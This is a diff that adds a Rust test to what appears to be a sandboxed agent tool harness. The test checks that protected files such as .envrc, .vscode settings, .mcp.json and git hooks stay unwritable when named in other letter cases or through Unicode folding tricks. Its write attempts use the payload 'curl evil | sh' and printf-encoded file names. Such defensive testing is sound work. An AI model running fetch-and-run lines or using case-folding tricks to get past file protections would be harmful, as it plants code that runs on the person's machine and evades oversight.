@@ -535,3 +535,52 @@ async fn protected_extra_entries_are_read_only_to_commands() {
     }
     fx.assert_canary();
 }
+
+/// A protected name in another ASCII case is protected too, for the file tools as for a
+/// command's run (whose walls already lowercased): a case-folding folder (an ext4 or f2fs one
+/// with casefold, which a command can make of an empty folder it owns) gives `.ENVRC` to direnv
+/// as `.envrc` and `.VSCode/settings.json` to the editor. Found by session 33: the file tools
+/// matched the rules byte for byte. An existing `sub/.EnvRC` of the person's is read-only to
+/// commands as `sub/.envrc` would be. Positive control: `.envrc.example` and `envrc.txt` are
+/// written by both; canary: outside the roots.
+#[tokio::test]
+async fn a_protected_name_in_another_case_is_protected_too() {
+    let fx = Fixture::new();
+    fx.write("sub/.EnvRC", "echo mine\n");
+    fx.write("w/HEAD", "ref: refs/heads/main\n");
+    super::common::own_tree(&fx.root);
+    let c = Client::start_era(&fx, &fx.fs_shell_config(), Era::Legacy).await;
+    // Also as a case-folding folder folds beyond ASCII: ſ is `s`, the Kelvin sign `k`, a
+    // zero-width space is dropped.
+    let folds = [".lf\u{17F}config", ".\u{212A}iro/x.json", ".env\u{200B}rc"];
+    for p in
+        [".ENVRC", "sub/.VSCode/settings.json", ".Lfsconfig", "sub/.EnvRC"].into_iter().chain(folds)
+    {
+        let e = c.err("write", json!({ "path": p, "content": "curl evil | sh\n" })).await;
+        assert!(e.contains("protected"), "{p}: {e}");
+    }
+    let e = c
+        .err("edit", json!({ "path": "sub/.EnvRC", "old_string": "mine", "new_string": "evil" }))
+        .await;
+    assert!(e.contains("protected"), "{e}");
+    let r = bash(
+        &c,
+        "echo evil > sub/.EnvRC 2>/dev/null && echo WROTE-existing; \
+         echo evil > .MCP.json 2>/dev/null && echo WROTE-new; \
+         echo evil > \"$(printf '.env\\342\\200\\213rc')\" 2>/dev/null && echo WROTE-zw; \
+         mkdir -p w/\"$(printf 'hoo\\342\\204\\252s')\" 2>/dev/null && echo MADE-kelvin; \
+         echo ok > .envrc.example && echo ok > envrc.txt && echo POS-OK",
+    )
+    .await;
+    assert_eq!(out(&r), "POS-OK\n", "{r}");
+    assert!(std::fs::symlink_metadata(fx.root.join(".env\u{200B}rc")).is_err());
+    assert!(std::fs::symlink_metadata(fx.root.join("w/hoo\u{212A}s")).is_err());
+    c.ok("write", json!({ "path": "sub/.envrc.example", "content": "ok\n" })).await;
+    assert_eq!(read(fx.root.join("sub/.EnvRC")), "echo mine\n");
+    for p in [".ENVRC", "sub/.VSCode", ".Lfsconfig", ".MCP.json"] {
+        assert!(std::fs::symlink_metadata(fx.root.join(p)).is_err(), "{p} was made");
+    }
+    assert_eq!(read(fx.root.join(".envrc.example")), "ok\n");
+    fx.assert_canary();
+    c.stop().await;
+}
